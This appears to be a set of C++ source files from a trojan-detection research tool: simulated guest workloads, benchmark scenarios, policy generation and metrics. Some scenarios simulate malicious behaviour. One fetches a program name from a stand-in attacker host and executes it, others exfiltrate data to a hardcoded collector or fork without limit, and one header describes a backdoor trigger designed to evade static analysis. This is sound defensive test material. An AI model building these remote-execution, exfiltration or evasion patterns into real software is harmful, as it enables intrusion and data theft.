        s.stdinData = "hello from the user\n";
        s.setup = [image](Kernel &k) {
            k.vfs().addBinary(image->path, image);
        };
        out.push_back(std::move(s));
    }

    {
        auto image = makeTail();
        Scenario s;
        s.id = "tail";
        s.description = "tail PinInstrumenter.C";
        s.path = image->path;
        s.argv = {image->path, "PinInstrumenter.C"};
        s.setup = [image](Kernel &k) {
            k.vfs().addBinary(image->path, image);
            k.vfs().addFile("PinInstrumenter.C",
                            std::string(100, 'x') +
                                "\n// the interesting tail\n");
        };
        out.push_back(std::move(s));
    }

    {
        auto image = makeDiff();
        Scenario s;
        s.id = "diff";
        s.description = "diff old.txt new.txt";
        s.path = image->path;
        s.argv = {image->path, "old.txt", "new.txt"};
        s.setup = [image](Kernel &k) {
            k.vfs().addBinary(image->path, image);
            k.vfs().addFile("old.txt", "line one\nline two\n");
            k.vfs().addFile("new.txt", "line one\nline 2\n");
        };
        out.push_back(std::move(s));
    }

    {
        auto image = makeWc();
        Scenario s;
        s.id = "wc";
        s.description = "wc input.txt";
        s.path = image->path;
        s.argv = {image->path, "input.txt"};
        s.setup = [image](Kernel &k) {
            k.vfs().addBinary(image->path, image);
            k.vfs().addFile("input.txt", "some words to count\n");
        };
        out.push_back(std::move(s));
    }

    {
        auto image = makeBc();
        Scenario s;
        s.id = "bc";
        s.description = "bc adding two numbers";
        s.path = image->path;
        s.stdinData = "2+3\n";
        s.setup = [image](Kernel &k) {
            k.vfs().addBinary(image->path, image);
        };
        out.push_back(std::move(s));
    }

    {
        auto image = makeXeyes();
        auto libx = makeLibX11();
        Scenario s;
        s.id = "xeyes";
        s.description = "xeyes talking to the local X server";
        s.path = image->path;
        s.setup = [image, libx](Kernel &k) {
            k.vfs().addBinary(image->path, image);
            k.addSharedObject(libx);
            k.registerNative(
                "XFlush", [](Kernel &, os::Process &p) {
                    p.machine.setReg(
                        Reg::Eax,
                        p.machine.resolveSymbol("x11_proto"));
                });
            RemotePeer xserver;
            xserver.name = "localhost:6000";
            k.net().addRemoteServer("localhost:6000", xserver);
        };
        s.expectMalicious = true;       // the documented Low warnings
        s.expectSeverity = Severity::Low;
        out.push_back(std::move(s));
    }

    // Trusted-but-noisy scenarios for the anomaly baselines: their
    // loop trip counts and I/O volumes vary with the seed, so a
    // multi-seed baseline records genuine per-metric variance
    // instead of the degenerate zero-variance profile a fixed-input
    // scenario produces.
    {
        auto image = makeCksum();
        Scenario s;
        s.id = "cksum (noisy)";
        s.description =
            "checksum a data file whose length varies by seed";
        s.path = image->path;
        s.argv = {image->path, "data.txt"};
        s.setup = [image](Kernel &k) {
            k.vfs().addBinary(image->path, image);
            k.vfs().addFile("data.txt", noisyContent(1));
        };
        s.reseed = [image](Scenario &sc, uint32_t seed) {
            sc.setup = [image, seed](Kernel &k) {
                k.vfs().addBinary(image->path, image);
                k.vfs().addFile("data.txt", noisyContent(seed));
            };
        };
        out.push_back(std::move(s));
    }

    {
        auto image = makeRev();
        Scenario s;
        s.id = "rev (noisy)";
        s.description =
            "reverse a data file whose length varies by seed";
        s.path = image->path;
        s.argv = {image->path, "notes.txt"};
        s.setup = [image](Kernel &k) {
            k.vfs().addBinary(image->path, image);
            k.vfs().addFile("notes.txt", noisyContent(2));
        };
        s.reseed = [image](Scenario &sc, uint32_t seed) {
            sc.setup = [image, seed](Kernel &k) {
                k.vfs().addBinary(image->path, image);
                k.vfs().addFile("notes.txt",
                                noisyContent(seed * 2 + 1));
            };
        };
        out.push_back(std::move(s));
    }

    {
        auto image = makeRot13();
        Scenario s;
        s.id = "rot13 (noisy)";
        s.description =
            "caesar-shift stdin of seed-dependent length";
        s.path = image->path;
        s.stdinData = noisyContent(3);
        s.setup = [image](Kernel &k) {
            k.vfs().addBinary(image->path, image);
        };
        s.reseed = [](Scenario &sc, uint32_t seed) {
            sc.stdinData = noisyContent(seed * 3 + 2);
        };
        out.push_back(std::move(s));
    }

    return out;
}

} // namespace hth::workloads
