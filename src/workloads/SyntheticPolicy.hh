/**
 * @file
 * Seeded synthetic policy generator: policy-at-scale workloads.
 *
 * Emits parameterized variants of the shipped rule families
 * (execution-flow, information-flow, hybrid static+dynamic, anomaly
 * escalation) in the policy's own CLIPS dialect, against the
 * policy's own deftemplates. Rules come in groups that share a
 * condition-element prefix verbatim — exercising Rete alpha/beta
 * node sharing — while carrying distinct literal guards and test
 * thresholds, so the alpha index must discriminate them and the
 * dirty-rescan oracle must rescan them all.
 *
 * The generated text loads after policyDeclarations() /
 * policyRules() (pass it via HthOptions::extraPolicyRules or
 * Environment::loadString). Right-hand sides are deliberately
 * side-effect-free ((bind ?noop 1)): fires still enter the fire
 * trace, so differential runs remain byte-comparable, but no
 * warnings or retractions disturb the shipped policy's behaviour.
 */

#ifndef HTH_WORKLOADS_SYNTHETICPOLICY_HH
#define HTH_WORKLOADS_SYNTHETICPOLICY_HH

#include <cstdint>
#include <string>

namespace hth::workloads
{

/** Knobs for syntheticPolicy(). */
struct SyntheticPolicyConfig
{
    /** Total defrules to emit. */
    int ruleCount = 500;

    /** Rules per prefix-sharing group (the last group of a family
     * may be smaller). */
    int groupSize = 8;

    /** Seed for the threshold / guard parameter stream. The same
     * seed always yields byte-identical policy text. */
    uint64_t seed = 0x5eed;
};

/**
 * Generate @p cfg.ruleCount synthetic defrules cycling over the four
 * families. Deterministic in (ruleCount, groupSize, seed).
 */
std::string syntheticPolicy(const SyntheticPolicyConfig &cfg = {});

} // namespace hth::workloads

#endif // HTH_WORKLOADS_SYNTHETICPOLICY_HH
