/**
 * @file
 * The anomaly-detection corpus: a clean "syncd" status daemon and a
 * trojaned rebuild of it whose trigger relates *two input bytes*
 * (cmd[i] xor cmd[i+1] against a key table).
 *
 * That guard shape is deliberately chosen to be invisible to the
 * static trigger-synthesis pass: the symbolic model tracks
 * InputByte-op-Constant chains, and an InputByte-op-InputByte
 * expression degrades to Unknown, so no TRIGGER_HYPOTHESIS finding
 * is ever produced. Under benign input the backdoor also fires no
 * dynamic rule — the only observable is the statistical one: the
 * trigger-scanning loop roughly doubles the per-byte instruction
 * work, which the multi-seed baseline scorer flags.
 */

#ifndef HTH_WORKLOADS_ANOMALYCORPUS_HH
#define HTH_WORKLOADS_ANOMALYCORPUS_HH

#include <memory>
#include <vector>

#include "vm/Image.hh"
#include "workloads/Scenario.hh"

namespace hth::workloads
{

/**
 * Scenarios, in order:
 *  - "syncd (clean)"      the trusted reference daemon, reseedable;
 *  - "syncd (backdoored)" trojaned rebuild, benign input: no static
 *                         finding, no dynamic warning — only the
 *                         baseline scorer can tell it apart;
 *  - "syncd (woken)"      trojaned rebuild fed a trigger pair: the
 *                         dormant exec path goes live.
 */
std::vector<Scenario> anomalyScenarios();

/** The clean syncd image on its own (baseline test input). */
std::shared_ptr<const vm::Image> makeSyncdImage();

/** The backdoored syncd image on its own. */
std::shared_ptr<const vm::Image> makeSyncdBackdooredImage();

} // namespace hth::workloads

#endif // HTH_WORKLOADS_ANOMALYCORPUS_HH
