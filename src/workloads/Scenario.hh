/**
 * @file
 * Scenarios: self-contained monitored-run descriptions.
 *
 * A scenario bundles a guest world setup (binaries, files, remote
 * peers), the program to monitor with its command line and stdin,
 * and the classification the paper's evaluation expects. The
 * evaluation benches and the integration tests both run scenarios
 * through runScenario().
 */

#ifndef HTH_WORKLOADS_SCENARIO_HH
#define HTH_WORKLOADS_SCENARIO_HH

#include <functional>
#include <string>
#include <vector>

#include "core/Hth.hh"
#include "fleet/FleetService.hh"

namespace hth::workloads
{

/** One monitored run. */
struct Scenario
{
    std::string id;             //!< short name, e.g. "execve_remote"
    std::string description;

    /** Populate VFS / network / extra shared objects. */
    std::function<void(os::Kernel &)> setup;

    std::string path;                   //!< binary to monitor
    std::vector<std::string> argv;
    std::vector<std::string> env;
    std::string stdinData;

    /**
     * Run without instruction-level data-flow tracking — the paper
     * does this for the perl-interpreted mw2.2.1 benchmark (§8.4.2)
     * to avoid interpreter-attributed false positives.
     */
    bool disableTaint = false;

    /** Does the paper classify this behaviour as malicious? */
    bool expectMalicious = false;

    /** Minimum severity expected when malicious. */
    secpert::Severity expectSeverity = secpert::Severity::Low;

    /**
     * Seed hook for baseline recording: perturb the scenario's
     * inputs (stdin, argv, file contents) deterministically from
     * @p seed before the run. Scenarios without one are fixed-input
     * and profile with zero variance on input-driven metrics.
     */
    std::function<void(Scenario &, uint32_t seed)> reseed;
};

/** Outcome of a scenario run. */
struct ScenarioResult
{
    Report report;
    bool flagged = false;
    bool correct = false;       //!< classification matches the paper

    /** Signals the Table 1 characterisation derives. */
    bool usedStdin = false;
    bool remotelyDirected = false;
    bool hardcodedResources = false;
    bool degradedPerformance = false;
    uint64_t heapGrowth = 0;    //!< max brk growth over processes
};

/** Run @p scenario under a fresh HTH instance. */
ScenarioResult runScenario(const Scenario &scenario,
                           const HthOptions &options = {});

/**
 * Run a seed-perturbed copy of @p scenario: applies
 * Scenario::reseed (when present) with @p seed, then runScenario().
 * The input to multi-seed baseline recording.
 */
ScenarioResult runScenarioSeeded(const Scenario &scenario,
                                 uint32_t seed,
                                 const HthOptions &options = {});

/**
 * Record a clean baseline for @p scenario: run it once per seed in
 * 1..runs and fold every run's telemetry into a profile named by the
 * scenario id.
 */
anomaly::BaselineProfile
recordScenarioBaseline(const Scenario &scenario, uint32_t runs,
                       const HthOptions &options = {});

/**
 * Package @p scenario as a fleet job (same taint handling as
 * runScenario). @p trace_path, when non-empty, records the session.
 */
fleet::FleetJob toFleetJob(const Scenario &scenario,
                           const HthOptions &options = {},
                           const std::string &trace_path = "");

} // namespace hth::workloads

#endif // HTH_WORKLOADS_SCENARIO_HH
