/**
 * @file
 * Micro-benchmark scenarios (paper §8.1, Tables 4-6).
 */

#ifndef HTH_WORKLOADS_MICRO_HH
#define HTH_WORKLOADS_MICRO_HH

#include <vector>

#include "workloads/Scenario.hh"

namespace hth::workloads
{

/** Provenance of a resource name in an information-flow probe. */
enum class NameOrigin { User, Hard, Remote };

/** Data source side of an information-flow probe. */
enum class FlowSrc { Binary, File, Socket, Hardware, UserInput };

/** Data target side of an information-flow probe. */
enum class FlowTgt { File, Socket };

/** Socket role when a probe endpoint is a socket. */
enum class SockRole { Client, Server };

/** Table 4: execution-flow micro benchmarks (execve ×4). */
std::vector<Scenario> executionFlowScenarios();

/** Table 5: resource-abuse micro benchmarks (loop / tree forker). */
std::vector<Scenario> resourceAbuseScenarios();

/** Table 6: the information-flow micro-benchmark matrix. */
std::vector<Scenario> infoFlowScenarios();

/** Build one information-flow probe scenario. */
Scenario makeInfoFlowScenario(FlowSrc src, NameOrigin src_name,
                              FlowTgt tgt, NameOrigin tgt_name,
                              SockRole role = SockRole::Client);

} // namespace hth::workloads

#endif // HTH_WORKLOADS_MICRO_HH
