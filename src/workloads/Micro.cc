#include "workloads/Micro.hh"

#include "support/Logging.hh"
#include "workloads/GuestLib.hh"

namespace hth::workloads
{

using namespace os;
using secpert::Severity;

//
// Table 4: execution flow
//

namespace
{

void
setupLs(Kernel &k)
{
    k.vfs().addBinary("/bin/ls", makeLsBinary());
    k.vfs().addFile(".", "bench.txt\nnotes.txt\n");
}

} // namespace

std::vector<Scenario>
executionFlowScenarios()
{
    std::vector<Scenario> out;

    {
        // execve with the program name from the command line.
        Gasm a("/bench/execve_user.exe");
        a.dataSpace("argv_slot", 4);
        a.label("main");
        a.entry("main");
        a.loadArgv(1);                     // EAX = argv[1]
        a.execveReg(Reg::Eax);
        a.exit(1);                         // only reached on failure
        auto image = a.build();

        Scenario s;
        s.id = "execve: User input";
        s.description = "execve of a program named on the command line";
        s.path = image->path;
        s.argv = {image->path, "/bin/ls"};
        s.setup = [image](Kernel &k) {
            setupLs(k);
            k.vfs().addBinary(image->path, image);
        };
        s.expectMalicious = false;
        out.push_back(std::move(s));
    }

    {
        // execve of a hard-coded program name.
        Gasm a("/bench/execve_hard.exe");
        a.dataString("prog", "/bin/ls");
        a.label("main");
        a.entry("main");
        a.execveSym("prog");
        a.exit(1);
        auto image = a.build();

        Scenario s;
        s.id = "execve: Hardcode";
        s.description = "execve of a hard-coded program name";
        s.path = image->path;
        s.setup = [image](Kernel &k) {
            setupLs(k);
            k.vfs().addBinary(image->path, image);
        };
        s.expectMalicious = true;
        s.expectSeverity = Severity::Low;
        out.push_back(std::move(s));
    }

    {
        // execve of a name received over a socket.
        Gasm a("/bench/execve_remote.exe");
        a.dataString("srv", "evil.box.sk:6667");
        a.dataSpace("namebuf", 32);
        a.label("main");
        a.entry("main");
        a.sockCreate();
        a.mov(Reg::Ebp, Reg::Eax);
        a.leaSym(Reg::Edx, "srv");
        a.sockConnect(Reg::Ebp, Reg::Edx);
        a.leaSym(Reg::Edx, "namebuf");
        a.sockRecv(Reg::Ebp, Reg::Edx, 31);
        a.leaSym(Reg::Ebx, "namebuf");
        a.execveReg(Reg::Ebx);
        a.exit(1);
        auto image = a.build();

        Scenario s;
        s.id = "execve: Remote execve";
        s.description = "execve of a program name sent by a remote host";
        s.path = image->path;
        s.setup = [image](Kernel &k) {
            setupLs(k);
            k.vfs().addBinary(image->path, image);
            k.net().addHost("evil.box.sk");
            RemotePeer attacker;
            attacker.name = "evil.box.sk:6667";
            attacker.onConnect = [](RemoteConn &c) {
                c.send("/bin/ls");
            };
            k.net().addRemoteServer("evil.box.sk:6667", attacker);
        };
        s.expectMalicious = true;
        s.expectSeverity = Severity::High;
        out.push_back(std::move(s));
    }

    {
        // Hard-coded execve from rarely executed code, long after
        // program start (the CIH-style trigger of §4.1).
        Gasm a("/bench/execve_infreq.exe");
        a.dataString("prog", "/bin/ls");
        a.label("main");
        a.entry("main");
        a.sleepTicks(60000);
        a.execveSym("prog");
        a.exit(1);
        auto image = a.build();

        Scenario s;
        s.id = "execve: Infrequent execve";
        s.description =
            "hard-coded execve after a long sleep from cold code";
        s.path = image->path;
        s.setup = [image](Kernel &k) {
            setupLs(k);
            k.vfs().addBinary(image->path, image);
        };
        s.expectMalicious = true;
        s.expectSeverity = Severity::Medium;
        out.push_back(std::move(s));
    }

    return out;
}

//
// Table 5: resource abuse
//

std::vector<Scenario>
resourceAbuseScenarios()
{
    std::vector<Scenario> out;

    {
        // One main thread forking workers that loop and sleep.
        Gasm a("/bench/loop_forker.exe");
        a.label("main");
        a.entry("main");
        a.movi(Reg::Ebp, 0);
        a.label("loop");
        a.fork();
        a.cmpi(Reg::Eax, 0);
        a.jz("child");
        a.addi(Reg::Ebp, 1);
        a.cmpi(Reg::Ebp, 20);
        a.jl("loop");
        a.exit(0);
        a.label("child");
        a.movi(Reg::Edi, 0);
        a.label("child_loop");
        a.sleepTicks(500);
        a.addi(Reg::Edi, 1);
        a.cmpi(Reg::Edi, 3);
        a.jl("child_loop");
        a.exit(0);
        auto image = a.build();

        Scenario s;
        s.id = "fork: loop forker";
        s.description = "main thread forks 20 looping children";
        s.path = image->path;
        s.setup = [image](Kernel &k) {
            k.vfs().addBinary(image->path, image);
        };
        s.expectMalicious = true;
        s.expectSeverity = Severity::Medium;
        out.push_back(std::move(s));
    }

    {
        // Fork tree: parent and child both continue forking.
        Gasm a("/bench/tree_forker.exe");
        a.label("main");
        a.entry("main");
        a.movi(Reg::Ebp, 0);
        a.label("loop");
        a.fork();
        a.addi(Reg::Ebp, 1);
        a.cmpi(Reg::Ebp, 5);
        a.jl("loop");
        a.exit(0);
        auto image = a.build();

        Scenario s;
        s.id = "fork: tree forker";
        s.description = "fork tree: both sides continue forking";
        s.path = image->path;
        s.setup = [image](Kernel &k) {
            k.vfs().addBinary(image->path, image);
        };
        s.expectMalicious = true;
        s.expectSeverity = Severity::Medium;
        out.push_back(std::move(s));
    }

    return out;
}

//
// Table 6: information flow
//

namespace
{

const char *
flowSrcName(FlowSrc src)
{
    switch (src) {
      case FlowSrc::Binary: return "Binary";
      case FlowSrc::File: return "File";
      case FlowSrc::Socket: return "Socket";
      case FlowSrc::Hardware: return "Hardware";
      case FlowSrc::UserInput: return "UserInput";
    }
    return "?";
}

const char *
originName(NameOrigin origin)
{
    switch (origin) {
      case NameOrigin::User: return "user";
      case NameOrigin::Hard: return "hardcoded";
      case NameOrigin::Remote: return "remote";
    }
    return "?";
}

/** Expected classification for one probe, per the §4.3 matrix. */
void
expectedOutcome(FlowSrc src, NameOrigin sname, FlowTgt tgt,
                NameOrigin tname, SockRole role, bool *malicious,
                Severity *severity)
{
    const bool src_fixed = (src == FlowSrc::File ||
                            src == FlowSrc::Socket);
    const bool src_hard = src_fixed && sname == NameOrigin::Hard;
    const bool src_user = src_fixed && sname == NameOrigin::User;
    const bool tgt_hard = tname == NameOrigin::Hard;
    const bool tgt_user = tname == NameOrigin::User;
    const bool tgt_remote = tname == NameOrigin::Remote;
    const bool server_hard = role == SockRole::Server && tgt_hard &&
                             tgt == FlowTgt::Socket;
    const bool server_src_hard = role == SockRole::Server &&
                                 src == FlowSrc::Socket && src_hard;

    int warn = 0;
    switch (src) {
      case FlowSrc::Binary:
      case FlowSrc::Hardware:
      case FlowSrc::UserInput:
        if (tgt_hard)
            warn = (src == FlowSrc::Binary && tgt == FlowTgt::Socket)
                       ? 1 : 3;
        break;
      case FlowSrc::File:
      case FlowSrc::Socket:
        if (src_user && tgt_hard)
            warn = 1;
        if (src_hard && tgt_user)
            warn = 1;
        if (src_hard && tgt_hard)
            warn = 3;
        if (sname == NameOrigin::Remote)
            warn = 3;
        break;
    }
    if (tgt_remote)
        warn = 3;
    if (server_hard || server_src_hard)
        warn = 3;

    *malicious = warn > 0;
    *severity = warn >= 3 ? Severity::High
                          : (warn == 2 ? Severity::Medium
                                       : Severity::Low);
}

} // namespace

Scenario
makeInfoFlowScenario(FlowSrc src, NameOrigin src_name, FlowTgt tgt,
                     NameOrigin tgt_name, SockRole role)
{
    std::string id = std::string(flowSrcName(src)) + "(" +
                     originName(src_name) + ") -> " +
                     (tgt == FlowTgt::File ? "File" : "Socket") + "(" +
                     originName(tgt_name) + ")";
    if ((src == FlowSrc::Socket || tgt == FlowTgt::Socket) &&
        role == SockRole::Server)
        id += " [server]";

    Gasm a("/bench/flow.exe");
    a.dataString("payload", "hardcoded-payload-data");
    a.dataSpace("buf", 64);
    a.dataSpace("namebuf", 32);
    a.dataSpace("argv_slot", 4);
    a.dataSpace("fd_slot", 4);
    a.dataSpace("conn_slot", 4);
    a.dataString("src_file", "/data/in.dat");
    a.dataString("tgt_file", "/tmp/out.dat");
    a.dataString("src_srv", "datasrv.example.com:9000");
    a.dataString("tgt_srv", "collector.example.com:9100");
    a.dataString("bind_addr", "LocalHost:7777");
    a.dataString("name_srv", "namesrv.example.com:9200");

    auto save = [&a](const std::string &slot, Reg r) {
        a.leaSym(Reg::Edi, slot);
        a.store(Reg::Edi, 0, r);
    };
    auto restore = [&a](const std::string &slot, Reg r) {
        a.leaSym(Reg::Edi, slot);
        a.load(r, Reg::Edi, 0);
    };
    // EAX <- a name pointer according to its origin. argv_index: 1
    // for the source name, 2 for the target name.
    auto name_ptr = [&](NameOrigin origin, const std::string &hard_sym,
                        int argv_index) {
        switch (origin) {
          case NameOrigin::User:
            restore("argv_slot", Reg::Ebx);
            a.loadArgv(argv_index);
            break;
          case NameOrigin::Hard:
            a.leaSym(Reg::Eax, hard_sym);
            break;
          case NameOrigin::Remote:
            // Fetch the name from the name server.
            a.sockCreate();
            save("fd_slot", Reg::Eax);
            a.mov(Reg::Ebp, Reg::Eax);
            a.leaSym(Reg::Edx, "name_srv");
            a.sockConnect(Reg::Ebp, Reg::Edx);
            a.leaSym(Reg::Edx, "namebuf");
            a.sockRecv(Reg::Ebp, Reg::Edx, 31);
            a.leaSym(Reg::Eax, "namebuf");
            break;
        }
    };

    a.label("main");
    a.entry("main");
    save("argv_slot", Reg::Ebx);

    //
    // Stage 1: put 16 bytes of source data into "buf" (or use the
    // payload directly for the BINARY source).
    //
    switch (src) {
      case FlowSrc::Binary:
        break; // write straight from "payload"
      case FlowSrc::UserInput:
        a.readSym(0, "buf", 16); // stdin
        break;
      case FlowSrc::File:
        name_ptr(src_name, "src_file", 1);
        a.openReg(Reg::Eax, GO_RDONLY);
        a.mov(Reg::Ebp, Reg::Eax);
        a.readFd(Reg::Ebp, "buf", 16);
        a.closeFd(Reg::Ebp);
        break;
      case FlowSrc::Socket:
        if (role == SockRole::Client) {
            name_ptr(src_name, "src_srv", 1);
            a.mov(Reg::Edx, Reg::Eax);
            a.sockCreate();
            a.mov(Reg::Ebp, Reg::Eax);
            a.sockConnect(Reg::Ebp, Reg::Edx);
        } else {
            name_ptr(src_name, "bind_addr", 1);
            a.mov(Reg::Edx, Reg::Eax);
            a.sockCreate();
            a.mov(Reg::Ebp, Reg::Eax);
            a.sockBind(Reg::Ebp, Reg::Edx);
            a.sockListen(Reg::Ebp);
            a.sockAccept(Reg::Ebp);
            a.mov(Reg::Ebp, Reg::Eax); // read from the connection
        }
        a.leaSym(Reg::Edx, "buf");
        a.sockRecv(Reg::Ebp, Reg::Edx, 16);
        break;
      case FlowSrc::Hardware:
        a.cpuid();
        a.leaSym(Reg::Esi, "buf");
        a.store(Reg::Esi, 0, Reg::Eax);
        a.store(Reg::Esi, 4, Reg::Ebx);
        a.store(Reg::Esi, 8, Reg::Ecx);
        a.store(Reg::Esi, 12, Reg::Edx);
        break;
    }

    //
    // Stage 2: write the data to the target.
    //
    const char *data_sym =
        src == FlowSrc::Binary ? "payload" : "buf";
    if (tgt == FlowTgt::File) {
        name_ptr(tgt_name, "tgt_file", 2);
        a.creatReg(Reg::Eax);
        a.mov(Reg::Ebp, Reg::Eax);
        a.writeFd(Reg::Ebp, data_sym, 16);
        a.closeFd(Reg::Ebp);
    } else if (role == SockRole::Client || src == FlowSrc::Socket) {
        // Socket target as a client (the source may already be a
        // server; only one endpoint can serve in a probe).
        name_ptr(tgt_name, "tgt_srv", 2);
        a.mov(Reg::Edx, Reg::Eax);
        a.sockCreate();
        a.mov(Reg::Ebp, Reg::Eax);
        a.sockConnect(Reg::Ebp, Reg::Edx);
        a.leaSym(Reg::Ecx, data_sym);
        a.movi(Reg::Edx, 16);
        a.sockSend(Reg::Ebp, Reg::Ecx, Reg::Edx);
    } else {
        // Socket target as a server: bind, listen, accept, send.
        name_ptr(tgt_name, "bind_addr", 2);
        a.mov(Reg::Edx, Reg::Eax);
        a.sockCreate();
        a.mov(Reg::Ebp, Reg::Eax);
        a.sockBind(Reg::Ebp, Reg::Edx);
        a.sockListen(Reg::Ebp);
        a.sockAccept(Reg::Ebp);
        a.mov(Reg::Ebp, Reg::Eax);
        a.leaSym(Reg::Ecx, data_sym);
        a.movi(Reg::Edx, 16);
        a.sockSend(Reg::Ebp, Reg::Ecx, Reg::Edx);
    }
    a.exit(0);
    auto image = a.build();

    Scenario s;
    s.id = id;
    s.description = "information-flow probe " + id;
    s.path = image->path;
    s.argv = {image->path, "/data/user_in.dat", "/tmp/user_out.dat"};
    if (src == FlowSrc::Socket && src_name == NameOrigin::User) {
        s.argv[1] = role == SockRole::Client
                        ? "datasrv.example.com:9000"
                        : "LocalHost:7878";
    }
    if (tgt == FlowTgt::Socket && tgt_name == NameOrigin::User) {
        s.argv[2] = (role == SockRole::Server &&
                     src != FlowSrc::Socket)
                        ? "LocalHost:7878"
                        : "collector.example.com:9100";
    }
    if (src == FlowSrc::UserInput)
        s.stdinData = "typed-by-the-user";

    const bool server_probe =
        role == SockRole::Server &&
        (src == FlowSrc::Socket || tgt == FlowTgt::Socket);
    s.setup = [image, server_probe, src](Kernel &k) {
        k.vfs().addBinary(image->path, image);
        k.vfs().addFile("/data/in.dat", "hardname-file-contents!");
        k.vfs().addFile("/data/user_in.dat", "username-file-contents");
        k.net().addHost("datasrv.example.com");
        k.net().addHost("collector.example.com");
        k.net().addHost("namesrv.example.com");

        RemotePeer data_server;
        data_server.name = "datasrv.example.com:9000";
        data_server.onConnect = [](RemoteConn &c) {
            c.send("remote-data-payload!");
        };
        k.net().addRemoteServer("datasrv.example.com:9000",
                                data_server);

        RemotePeer collector;
        collector.name = "collector.example.com:9100";
        k.net().addRemoteServer("collector.example.com:9100",
                                collector);

        RemotePeer name_server;
        name_server.name = "namesrv.example.com:9200";
        name_server.onConnect = [](RemoteConn &c) {
            c.send("/tmp/loot.dat");
        };
        k.net().addRemoteServer("namesrv.example.com:9200",
                                name_server);

        if (server_probe) {
            // A remote client for whichever address the probe
            // listens on.
            for (const char *addr :
                 {"LocalHost:7777", "LocalHost:7878"}) {
                RemotePeer client;
                client.name = "gateway:36982";
                if (src == FlowSrc::Socket) {
                    client.onConnect = [](RemoteConn &c) {
                        c.send("remote-client-data!!");
                    };
                }
                k.net().addRemoteClient(addr, client);
            }
        }
    };

    expectedOutcome(src, src_name, tgt, tgt_name, role,
                    &s.expectMalicious, &s.expectSeverity);
    return s;
}

std::vector<Scenario>
infoFlowScenarios()
{
    std::vector<Scenario> out;

    // Binary -> File: user / hardcoded / remote file name.
    out.push_back(makeInfoFlowScenario(
        FlowSrc::Binary, NameOrigin::User, FlowTgt::File,
        NameOrigin::User));
    out.push_back(makeInfoFlowScenario(
        FlowSrc::Binary, NameOrigin::User, FlowTgt::File,
        NameOrigin::Hard));
    out.push_back(makeInfoFlowScenario(
        FlowSrc::Binary, NameOrigin::User, FlowTgt::File,
        NameOrigin::Remote));

    // Binary -> Socket: user / hardcoded address, both roles.
    for (SockRole role : {SockRole::Client, SockRole::Server}) {
        out.push_back(makeInfoFlowScenario(
            FlowSrc::Binary, NameOrigin::User, FlowTgt::Socket,
            NameOrigin::User, role));
        out.push_back(makeInfoFlowScenario(
            FlowSrc::Binary, NameOrigin::User, FlowTgt::Socket,
            NameOrigin::Hard, role));
    }

    // File -> File: the four name-origin combinations.
    for (NameOrigin sn : {NameOrigin::User, NameOrigin::Hard})
        for (NameOrigin tn : {NameOrigin::User, NameOrigin::Hard})
            out.push_back(makeInfoFlowScenario(FlowSrc::File, sn,
                                               FlowTgt::File, tn));

    // File -> Socket: four combinations, client and server roles.
    for (SockRole role : {SockRole::Client, SockRole::Server})
        for (NameOrigin sn : {NameOrigin::User, NameOrigin::Hard})
            for (NameOrigin tn : {NameOrigin::User, NameOrigin::Hard})
                out.push_back(makeInfoFlowScenario(
                    FlowSrc::File, sn, FlowTgt::Socket, tn, role));

    // Socket -> File: four combinations, client and server roles.
    for (SockRole role : {SockRole::Client, SockRole::Server})
        for (NameOrigin sn : {NameOrigin::User, NameOrigin::Hard})
            for (NameOrigin tn : {NameOrigin::User, NameOrigin::Hard})
                out.push_back(makeInfoFlowScenario(
                    FlowSrc::Socket, sn, FlowTgt::File, tn, role));

    // Hardware -> File: user / hardcoded file name.
    out.push_back(makeInfoFlowScenario(
        FlowSrc::Hardware, NameOrigin::User, FlowTgt::File,
        NameOrigin::User));
    out.push_back(makeInfoFlowScenario(
        FlowSrc::Hardware, NameOrigin::User, FlowTgt::File,
        NameOrigin::Hard));

    return out;
}

} // namespace hth::workloads
