/**
 * @file
 * RunTelemetry: the structured self-observation record of one
 * monitored run (or, merged, of a whole fleet batch). Carried by
 * Report and FleetReport; rendered by StatsSink.
 */

#ifndef HTH_OBS_TELEMETRY_HH
#define HTH_OBS_TELEMETRY_HH

#include "obs/Metrics.hh"
#include "obs/Profiler.hh"

namespace hth::obs
{

struct RunTelemetry
{
    /** False when the run had telemetry disabled (phases empty). */
    bool profiled = false;

    /** Wall-time attribution; phase times sum to phases.totalNs. */
    PhaseBreakdown phases;

    /** Named counters/gauges/histograms harvested from all layers. */
    MetricSnapshot metrics;

    /** Fold another run in: phases add, metrics merge. */
    void
    merge(const RunTelemetry &other)
    {
        profiled = profiled || other.profiled;
        phases.merge(other.phases);
        metrics.merge(other.metrics);
    }

    bool
    operator==(const RunTelemetry &) const = default;
};

} // namespace hth::obs

#endif // HTH_OBS_TELEMETRY_HH
