/**
 * @file
 * Metric registry: named counters, gauges and fixed-bucket
 * histograms.
 *
 * Design constraints, in order:
 *
 *  1. Hot paths stay hot. Layer-internal counting keeps using the
 *     plain uint64 stats structs each layer already owns
 *     (MachineStats, EngineStats, KernelStats, ...); those are
 *     harvested into a registry once per run. Only metrics that are
 *     genuinely written from several threads (fleet-level queue and
 *     worker metrics) touch the registry directly, and those writes
 *     are single relaxed atomic adds — no locks on the fast path.
 *
 *  2. Thread-safe aggregation. Counter/Gauge/Histogram cells are
 *     relaxed atomics, so a fleet worker can bump them while another
 *     thread snapshots; registration (name -> cell lookup) takes a
 *     mutex but callers cache the returned reference, which stays
 *     valid for the registry's lifetime (deque storage, no
 *     reallocation).
 *
 *  3. Deterministic output. Snapshots use ordered maps so two
 *     identical runs render byte-identical text/JSON.
 */

#ifndef HTH_OBS_METRICS_HH
#define HTH_OBS_METRICS_HH

#include <atomic>
#include <bit>
#include <cstdint>
#include <deque>
#include <map>
#include <mutex>
#include <string>
#include <string_view>
#include <unordered_map>
#include <vector>

namespace hth::obs
{

/** Monotonic event count. */
class Counter
{
  public:
    void
    add(uint64_t delta = 1)
    {
        value_.fetch_add(delta, std::memory_order_relaxed);
    }

    /** Overwrite — used when harvesting a layer's own stats struct. */
    void
    set(uint64_t value)
    {
        value_.store(value, std::memory_order_relaxed);
    }

    uint64_t
    value() const
    {
        return value_.load(std::memory_order_relaxed);
    }

  private:
    std::atomic<uint64_t> value_{0};
};

/** Instantaneous level; remembers its high-water mark. */
class Gauge
{
  public:
    void
    set(uint64_t value)
    {
        value_.store(value, std::memory_order_relaxed);
        uint64_t seen = max_.load(std::memory_order_relaxed);
        while (value > seen &&
               !max_.compare_exchange_weak(seen, value,
                                           std::memory_order_relaxed))
            ;
    }

    uint64_t
    value() const
    {
        return value_.load(std::memory_order_relaxed);
    }

    uint64_t
    max() const
    {
        return max_.load(std::memory_order_relaxed);
    }

  private:
    std::atomic<uint64_t> value_{0};
